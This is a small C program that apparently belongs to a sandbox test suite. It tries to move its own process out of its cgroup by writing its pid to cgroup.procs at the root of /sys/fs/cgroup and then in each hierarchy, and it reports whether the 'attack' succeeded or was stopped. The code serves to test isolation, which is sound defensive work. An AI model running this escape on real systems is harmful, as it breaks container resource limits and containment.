// Writes its own pid into the cgroup.procs at the top of each hierarchy of /sys/fs/cgroup.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include "victim.h"

static int move_to(const char* path) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t wrote = write(fd, "0\n", 2);
  int saved = errno;
  (void)close(fd);
  errno = saved;
  return wrote == 2 ? 0 : -1;
}

int main(void) {
  begin("cgroup_leave");
  if (move_to("/sys/fs/cgroup/cgroup.procs") == 0) attack_succeeded("left for the root of cgroup v2");
  DIR* top = opendir("/sys/fs/cgroup");
  if (top == NULL) attack_stopped_by_errno("opendir");
  int last_errno = errno;
  for (struct dirent* entry = readdir(top); entry != NULL; entry = readdir(top)) {
    char path[320];
    (void)snprintf(path, sizeof path, "/sys/fs/cgroup/%s/cgroup.procs", entry->d_name);
    if (move_to(path) == 0) attack_succeeded("left through %s", path);
    last_errno = errno;
  }
  (void)closedir(top);
  errno = last_errno;
  attack_stopped_by_errno("cgroup.procs");
}
